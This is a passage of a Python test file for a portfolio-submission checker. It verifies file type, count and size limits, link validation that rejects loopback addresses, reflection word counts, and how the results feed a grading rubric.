    return {result.id: (result.passed, result.explanation) for result in results}


def test_a_complete_portfolio_passes_every_check_with_a_line_for_people() -> None:
    checks = run_checks(
        {
            "design": [stored("pdf", int(1.2 * MIB), pages=3)],
            "screens": [
                stored("png", 210 * 1024, width=1280, height=720),
                stored("jpeg", 90 * 1024, width=800, height=600),
            ],
        },
        {"site": "https://learner.example.org/portfolio"},
        {"reflection": "I learned to write tests that can fail."},
    )
    assert all(passed for passed, _line in checks.values())
    assert checks["checks/design/type"][1] == "Design note: a PDF of 3 pages, 1.2 MB"
    assert checks["checks/screens/type"][1] == (
        "Screenshots: a PNG image of 1280 \u00d7 720 pixels, 210 KB; "
        "a JPEG image of 800 \u00d7 600 pixels, 90 KB"
    )
    assert checks["checks/site/link"][1] == "Portfolio site: a link to learner.example.org (https)"
    assert checks["checks/reflection/words"][1] == "Reflection: 8 words (between 5 and 20 asked for)"
    assert checks["checks/extra/present"] == (True, "Extra material: nothing handed in (optional)")


def test_every_slot_yields_the_same_check_ids_whether_or_not_it_was_handed_in() -> None:
    expected = {
        f"checks/{slot}/{what}"
        for slot, whats in {
            "design": ("present", "count", "type", "size"),
            "screens": ("present", "count", "type", "size"),
            "extra": ("present", "count", "type", "size"),
            "site": ("present", "link"),
            "reflection": ("present", "words"),
        }.items()
        for what in whats
    }
    assert set(run_checks({}, {}, {})) == expected


def test_what_is_missing_wrong_or_too_much_fails_its_check() -> None:
    checks = run_checks(
        {
            "screens": [stored("png", 3 * MIB, width=10, height=10)] * 3,
            "design": [stored("png", 100, width=10, height=10)],
        },
        {"site": "https://127.0.0.1:8000/"},
        {"reflection": "too short"},
    )
    failed = {check for check, (passed, _line) in checks.items() if not passed}
    assert failed == {
        "checks/design/type",
        "checks/screens/count",
        "checks/screens/size",
        "checks/site/link",
        "checks/reflection/words",
    }
    assert checks["checks/design/type"][1] == "Design note: a PNG image instead of a PDF"
    assert checks["checks/screens/count"][1] == "Screenshots: 3 files, more than the 2 allowed"
    assert (
        "a loopback address, which a reviewer cannot open (the service never fetches it)"
        in (checks["checks/site/link"][1])
    )


def test_a_required_slot_left_empty_fails_present() -> None:
    checks = run_checks({}, {}, {})
    assert checks["checks/design/present"] == (False, "Design note: nothing handed in, and it is required")
    assert checks["checks/reflection/words"][0] is False
    assert checks["checks/extra/type"][0] is True


def test_the_checks_feed_the_rubric_as_test_evidence() -> None:
    results = portfolio_checks(
        file_slots=[DESIGN], files={"design": [stored("pdf", 1000, pages=1)]}, statement_slots=[REFLECTION]
    )
    evidence = Evidence(tests=checks_as_evidence(results, points=2))
    assert [(t.id, t.points, t.max_points) for t in evidence.tests if not t.passed] == [
        ("checks/reflection/present", 0.0, 2),
        ("checks/reflection/words", 0.0, 2),
    ]
    passed = sum(1 for result in results if result.passed)
    measure = TestsPassed(tests=("checks/*",)).measure(evidence)
    assert measure.fraction == passed / len(results)
    assert TestsPassed(tests=("checks/design/*",)).measure(evidence).fraction == 1.0
